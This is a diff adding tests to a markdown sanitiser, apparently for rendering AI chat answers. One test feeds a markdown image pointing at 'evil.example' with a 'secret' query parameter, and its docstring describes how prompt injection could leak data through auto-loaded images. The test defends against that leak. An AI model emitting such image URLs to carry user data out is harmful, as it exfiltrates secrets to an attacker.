@@ -69,3 +69,17 @@ def test_markdown_is_rendered():
     assert "<li>a</li>" in html
     assert 'href="https://example.com"' in html
     assert "noopener" in html
+
+
+def test_images_in_answers_become_links_and_are_never_loaded():
+    """An image URL in model output would be fetched by the browser on its own, leaking
+    whatever an injected prompt put in it; it renders as a link instead."""
+    html = markdown_to_safe_html("![chart](https://evil.example/x.png?c=secret)")
+    assert "<img" not in html
+    assert '<a href="https://evil.example/x.png?c=secret"' in html and ">chart</a>" in html
+
+
+def test_single_line_breaks_in_answers_are_kept():
+    """A poem's lines stay on separate lines after rendering (the stream shows them so too)."""
+    html = markdown_to_safe_html("Roses are red,\nviolets are blue")
+    assert "Roses are red,<br" in html
